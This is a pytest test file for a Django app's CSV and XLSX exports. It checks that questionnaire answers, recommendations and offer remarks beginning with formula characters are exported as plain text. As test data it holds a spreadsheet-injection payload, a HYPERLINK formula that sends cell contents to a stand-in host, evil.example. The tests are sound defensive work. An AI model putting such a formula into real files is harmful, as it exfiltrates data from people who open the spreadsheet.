"""Exports open in spreadsheet programs: typed text that a spreadsheet would run as a formula is made plain text."""

import csv
import datetime
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from agendas.offers import record_offer
from questionnaires.models import Question, Recommendation
from tests.factories import answered, state

FORMULA = 'HYPERLINK("http://evil.example/?"&A1,"Click")'
PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
PREFIX_IDS = ["equals", "plus", "minus", "at", "tab", "carriage-return"]


def csv_rows(response):
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def xlsx_rows(response):
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [[(cell.value, cell.data_type, cell.quotePrefix) for cell in row] for row in sheet.iter_rows(min_row=2)]


@pytest.fixture
def hostile_questionnaire(questionnaire):
    """Ecuador's measures, a recommendation and a general question that all start like formulas."""
    Recommendation.objects.filter(meeting=questionnaire.source_meeting, number=1).update(text_en="=1+1")
    Question.objects.create(questionnaire=questionnaire, position=4, text_en="@SUM(A1:A9)")
    return questionnaire


@pytest.mark.parametrize("prefix", PREFIXES, ids=PREFIX_IDS)
def test_responses_csv_neutralizes_formulas(hostile_questionnaire, clients, prefix):
    answered(hostile_questionnaire, "ECU", text=prefix + FORMULA)
    response = clients["secretariat"].get(reverse("questionnaires:export", args=["honlac", 32, "csv"]))
    rows = csv_rows(response)[1:]
    assert [row[5] for row in rows] == ["'" + prefix + FORMULA] * 4
    assert [row[3] for row in rows] == [
        "'=1+1",
        "Governments should strengthen early warning systems (2).",
        "Governments should strengthen early warning systems (3).",
        "'@SUM(A1:A9)",
    ]


@pytest.mark.parametrize("prefix", PREFIXES, ids=PREFIX_IDS)
def test_responses_xlsx_neutralizes_formulas(hostile_questionnaire, clients, prefix):
    answered(hostile_questionnaire, "ECU", text=prefix + FORMULA)
    response = clients["secretariat"].get(reverse("questionnaires:export", args=["honlac", 32, "xlsx"]))
    rows = xlsx_rows(response)
    # Text as typed, in a text cell with the quote prefix: no apostrophe shown, never a formula. openpyxl writes a
    # carriage return as typed when lxml is installed (pikepdf brings it), which XML then reads back as a line feed
    # unless escaped; the cell is text either way, and its text is the one typed.
    typed = prefix + FORMULA
    [measures] = {row[5] for row in rows}
    assert len(rows) == 4
    assert measures in {(typed, "s", True), (typed.replace("\r", "\n"), "s", True)}
    assert (rows[0][3], rows[3][3]) == (("=1+1", "s", True), ("@SUM(A1:A9)", "s", True))  # recommendation 1, question
    assert not [cell for row in rows for cell in row if cell[1] == "f"]


def test_responses_export_keeps_text_that_only_contains_formula_signs(questionnaire, clients):
    answered(questionnaire, "ECU", text="Budget: 2+2 = 4 @ HQ - see annex")
    response = clients["secretariat"].get(reverse("questionnaires:export", args=["honlac", 32, "csv"]))
    assert [row[5] for row in csv_rows(response)[1:]] == ["Budget: 2+2 = 4 @ HQ - see annex"] * 3


@pytest.mark.parametrize("prefix", PREFIXES, ids=PREFIX_IDS)
def test_offers_csv_neutralizes_formulas(questionnaire, clients, prefix):
    body = questionnaire.meeting.body
    body.member_states.set(questionnaire.meeting.participating_states.all())
    offer = record_offer(
        body,
        member_state=state("MEX"),
        meeting_number=33,
        offered_on=datetime.date(2023, 10, 5),
        remarks=prefix + FORMULA,
        by=None,
    )
    url = reverse("agendas:offers_for_commission", args=["honlac", offer.commission_session, "csv"])
    rows = csv_rows(clients["secretariat"].get(url))
    assert rows[1] == ["Mexico", "Thirty-third Meeting", "2023-10-05", "Received", "'" + prefix + FORMULA]
